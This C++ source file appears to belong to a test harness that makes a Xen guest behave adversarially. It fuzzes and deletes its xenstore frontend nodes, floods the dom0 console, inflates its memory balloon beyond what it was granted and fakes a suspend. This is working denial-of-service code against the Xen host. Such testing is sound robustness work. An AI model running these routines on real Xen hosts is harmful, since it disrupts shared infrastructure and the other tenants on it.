// SPDX-License-Identifier: MIT
// What can be done with the domain's own PV devices, its console and its memory.
#include "base/fd.hpp"
#include "base/format.hpp"
#include "hypercalls.hpp"
#include "tricks.hpp"
#include "xen/xenbus.hpp"

#include <fcntl.h>
#include <sys/mman.h>

#include <array>

namespace linstub::adversary {
namespace {

using base::Milliseconds;

constexpr std::array kinds{"vbd", "vif", "console", "vkbd", "pci"};

// The nodes of the domain's own frontends.
std::vector<std::string> frontends(Adversary &adversary) {
  std::vector<std::string> nodes;
  for (const char *kind : kinds) {
    const std::string directory = base::format("device/{}", kind);
    auto numbers = adversary.store.list_if_there(directory);
    for (const std::string &number : numbers.value_or(std::vector<std::string>{}))
      nodes.push_back(base::format("{}/{}", directory, number));
  }
  return nodes;
}

} // namespace

// All states in all orders, behind the kernel's back, and rings that are none.
void play_with_frontends(Adversary &adversary) {
  const auto nodes = frontends(adversary);
  adversary.say(base::format("frontends: {}", base::join(nodes, " ")));
  for (unsigned round = 0;; round++) {
    for (const std::string &node : nodes) {
      const auto state = std::to_string((round * 5 + 4) % 10); // 0 and 9 are no states
      for (const auto &[name, value] :
           {std::pair<const char *, std::string>{"ring-ref", std::to_string(round * 7919)},
            {"event-channel", std::to_string(round % 4096)},
            {"feature-persistent", "1"},
            {"multi-queue-num-queues", "4294967295"},
            {"state", state}}) [[maybe_unused]]
        auto written = adversary.store.write(base::format("{}/{}", node, name), value);
    }
    adversary.serve(Milliseconds(50));
  }
}

void delete_frontends(Adversary &adversary) {
  int removed = 0;
  const auto nodes = frontends(adversary);
  for (const std::string &node : nodes)
    removed += adversary.store.remove(node).has_value() ? 1 : 0;
  // What they were, as something else.
  [[maybe_unused]] auto written = adversary.store.write("device/vbd/51712/backend", "/local");
  adversary.say(base::format("frontends: {} of {} removed", removed, nodes.size()));
}

// xenconsoled takes it in dom0, for who runs xl console.
void flood_console(Adversary &adversary) {
  auto console = base::open_file("/dev/hvc0", O_WRONLY | O_NOCTTY);
  if (!console)
    return adversary.say(console.error().message());
  const std::string line(4095, 'c');
  for (;;) {
    [[maybe_unused]] auto written = base::write_all(*console, line + "\n");
    adversary.serve_once(Milliseconds(0));
  }
}

// More than it was given: by the kernel's balloon, in steps that it has tables for, and past it.
// Then everything that there is, again and again.
void take_memory(Adversary &adversary) {
  auto write = [](const char *file, std::string_view text) {
    if (auto opened = base::open_file(file, O_WRONLY)) [[maybe_unused]]
      auto written = base::write_all(*opened, text);
  };
  write("/sys/devices/system/memory/auto_online_blocks", "online\n");
  Hypercalls hypercalls;
  const long got = hypercalls.increase_reservation(64);
  adversary.say(base::format("memory: {} pages more of 64", got < 0 ? 0 : got));
  constexpr std::array kib{"24576\n", "81920\n", "131072\n", "196608\n", "262144\n", "4194304\n"};
  for (size_t step = 0;; step++) {
    write("/sys/devices/system/xen_memory/xen_memory0/target_kb", kib.at(step % kib.size()));
    adversary.serve(Milliseconds(step < kib.size() ? 3000 : 200));
  }
}

// It shuts down as a domain does that is to be saved: who takes it for saved leaves it as it is.
void pretend_to_suspend(Adversary &adversary) {
  adversary.say("suspends");
  Hypercalls().shutdown_for_suspend();
}

} // namespace linstub::adversary
